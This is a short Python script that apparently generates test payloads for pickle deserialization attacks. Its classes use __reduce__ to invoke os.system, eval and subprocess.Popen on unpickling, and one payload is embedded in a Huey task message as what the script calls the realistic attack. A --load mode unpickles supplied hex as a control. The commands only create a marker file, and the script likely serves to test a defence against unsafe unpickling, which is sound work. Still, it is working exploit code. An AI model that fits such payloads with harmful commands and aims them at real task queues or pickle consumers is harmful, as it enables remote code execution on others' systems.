"""Prints `name protocol hex` for pickles that run a command when Python loads them.

  hostile.py PATH          each payload creates the file PATH when unpickled
  hostile.py --load HEX    unpickles HEX with Python's own pickle (the control: it does run)
"""
import os
import pickle
import subprocess
import sys

from huey.registry import Message


class System:
    def __reduce__(self):
        return (os.system, ('touch ' + PATH,))


class Eval:
    def __reduce__(self):
        return (eval, ("open(%r, 'w').close()" % PATH,))


class Popen:
    def __reduce__(self):
        return (subprocess.Popen, (['touch', PATH],))


if sys.argv[1] == '--load':
    pickle.loads(bytes.fromhex(sys.argv[2]))
    sys.exit(0)

PATH = sys.argv[1]
payloads = {
    'system': System(),
    'eval': Eval(),
    'popen': Popen(),
    # The realistic attack: a well-formed Huey message carrying the payload in its args.
    'message': Message('evil', 'app.task', None, 0, 0, None, (System(),), {}),
}
for name, payload in payloads.items():
    for protocol in (0, 2, 5):
        print(name, protocol, pickle.dumps(payload, protocol=protocol).hex())
